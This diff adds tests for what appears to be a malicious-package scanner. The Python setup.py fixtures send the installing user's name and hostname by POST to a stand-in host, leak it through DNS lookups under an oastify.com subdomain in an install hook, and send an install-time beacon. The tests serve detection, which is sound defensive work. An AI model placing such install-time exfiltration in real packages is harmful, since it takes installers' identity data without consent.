@@ -220,3 +220,68 @@ test('a DNS lookup of a hidden host at install and a domain-fronted request at i
   const { score: plain } = await scan({ 'p-1/setup.py': "import socket\nsocket.gethostbyname('files.example.org')\nfrom setuptools import setup\nsetup(name='p')\n" });
   assert.notEqual(plain.verdict, 'malicious', plain.reason);
 });
+
+test('host data passed by keyword to a local request helper is exfiltration at install', async () => {
+  const { out, score } = await scan({
+    'p-1/setup.py': [
+      'import getpass, platform, json',
+      'def request(url, method="GET", data=None, headers=None):',
+      '    import urllib.request as r',
+      '    return r.urlopen(r.Request(url=url, data=data, headers=headers), timeout=10).read()',
+      'def detect():',
+      '    data = {"title": "%s@%s" % (getpass.getuser(), platform.node())}',
+      '    request(url="http://probe.example.invalid/hook", method="POST", data=json.dumps(data).encode())',
+      'detect()',
+      "from setuptools import setup\nsetup(name='p')",
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/host-data-exfiltration'));
+  // The same helper given only a constant by keyword sends nothing of the host.
+  const { score: plain } = await scan({
+    'pkg/__init__.py': 'def request(url, data=None):\n    import urllib.request as r\n    return r.urlopen(url, data)\ndef ping():\n    return request(url="https://api.example.invalid/v1", data=b"{}")\n',
+  });
+  assert.notEqual(plain.verdict, 'malicious', plain.reason);
+});
+
+test('host names with data in underscore labels keep their fixed suffix for classification', async () => {
+  const { score } = await scan({
+    'p-1/setup.py': [
+      'import socket, getpass',
+      'from setuptools.command.install import install',
+      'class I(install):',
+      '    def run(self):',
+      '        value = getpass.getuser().encode().hex()',
+      "        socket.getaddrinfo(f'v2_f.{value}.v2_e.abcdef.oastify.com', 80)",
+      "from setuptools import setup\nsetup(name='p', cmdclass={'install': I})",
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.equal(classifyHost('iplogger.org'), 'oob');
+});
+
+test('an install-time request whose answer is never read is a beacon; a download that is used is not', async () => {
+  const { out, score } = await scan({
+    'p-1/setup.py': [
+      'from urllib.request import urlopen',
+      'def telemetry(path):',
+      '    urlopen("https://stats.example.invalid/log/" + path)',
+      'telemetry("init")',
+      "from setuptools import setup\nsetup(name='p')",
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/install-beacon' && /ignores the answer/.test(f.message)));
+  const { score: used } = await scan({
+    'p-1/setup.py': [
+      'from urllib.request import urlopen',
+      'data = urlopen("https://files.example.invalid/table.json").read()',
+      "open('table.json', 'wb').write(data)",
+      "from setuptools import setup\nsetup(name='p')",
+    ].join('\n'),
+  });
+  assert.notEqual(used.verdict, 'malicious', used.reason);
+  // Vendor endpoints are not beacons.
+  const { score: vendor } = await scan({ 'p-1/setup.py': "from urllib.request import urlopen\nurlopen('https://pypi.org/simple/')\nfrom setuptools import setup\nsetup(name='p')\n" });
+  assert.notEqual(vendor.verdict, 'malicious', vendor.reason);
+});
